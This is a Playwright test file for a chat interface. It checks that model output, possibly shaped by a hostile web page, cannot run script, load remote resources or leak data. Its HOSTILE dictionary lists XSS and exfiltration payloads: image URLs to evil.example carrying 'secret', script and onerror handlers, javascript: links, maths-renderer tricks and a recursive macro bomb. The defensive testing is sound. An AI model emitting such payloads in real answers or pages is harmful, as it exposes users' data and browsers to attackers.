"""The words come from a model that may have read a hostile page: none may act, or tell another host anything."""

import pytest
from playwright.sync_api import expect

from support.chat_page import ChatPage

HOSTILE = {
    "remote image": "![x](https://evil.example/leak.png?q=secret)",
    "reference image": "![x][1]\n\n[1]: https://evil.example/leak.png",
    "raw image": '<img src="https://evil.example/a.png" onerror="window.owned=1">',
    "script": "<script>window.owned=1</script>",
    "style": "<style>body{background:url(https://evil.example/css)}</style>",
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "svg": '<svg onload="window.owned=1"><image href="https://evil.example/s.png"/></svg>',
    "link to script": "[click](javascript:window.owned=1)",
    "link to data": "[click](data:text/html,<script>window.owned=1</script>)",
    "svg image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "maths link": "$$\\href{javascript:window.owned=1}{x}$$",
    "maths image": "$$\\includegraphics{https://evil.example/k.png}$$",
    "maths style": "$$\\htmlStyle{background:url(https://evil.example/m)}{x}$$",
    "maths bomb": "$$" + "\\def\\a{\\a\\a}\\a" + "$$",
    "form": '<form action="https://evil.example/"><button>press</button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "autolink": "https://evil.example/?q=1 www.evil.example",
    "code with a tag": "```html\n<script>window.owned=1</script>\n```",
    "language as a tag": '```"><script>window.owned=1</script>\ncode\n```',
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_words_do_nothing(chat: ChatPage, kind: str) -> None:
    """The `watch` behind `chat` fails the test on any foreign request and on any complaint of the browser."""
    chat.open(model="echo")
    chat.say(f"{HOSTILE[kind]}\n\nthe end of {kind}")
    expect(chat.last_answer).to_contain_text(f"the end of {kind}")
    chat.wait_until_answered()
    assert chat.page.evaluate("() => window.owned === undefined")
    acting = chat.answers.locator("script, iframe, style, form, object, embed, meta, svg image, [onerror], [onload]")
    expect(acting).to_have_count(0)
    expect(chat.answers.locator("img:not([src^='data:image/'])")).to_have_count(0)
    expect(chat.answers.locator("a[href^='javascript'], a[href^='data']")).to_have_count(0)


def test_links_open_elsewhere_and_tell_nothing(chat: ChatPage) -> None:
    """The other site learns neither the address of the chat nor gets a hand on its tab."""
    chat.open(model="echo")
    chat.ask("See [the specification](https://example.org/spec).")
    link = chat.last_answer.get_by_role("link", name="the specification")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


def test_remote_image_is_shown_as_a_link_with_its_host(chat: ChatPage) -> None:
    """The person decides whether the other host is asked."""
    chat.open(model="echo")
    chat.ask("![a floor](https://pictures.example/floor.png)")
    expect(chat.last_answer.get_by_role("link", name="a floor pictures.example")).to_be_visible()
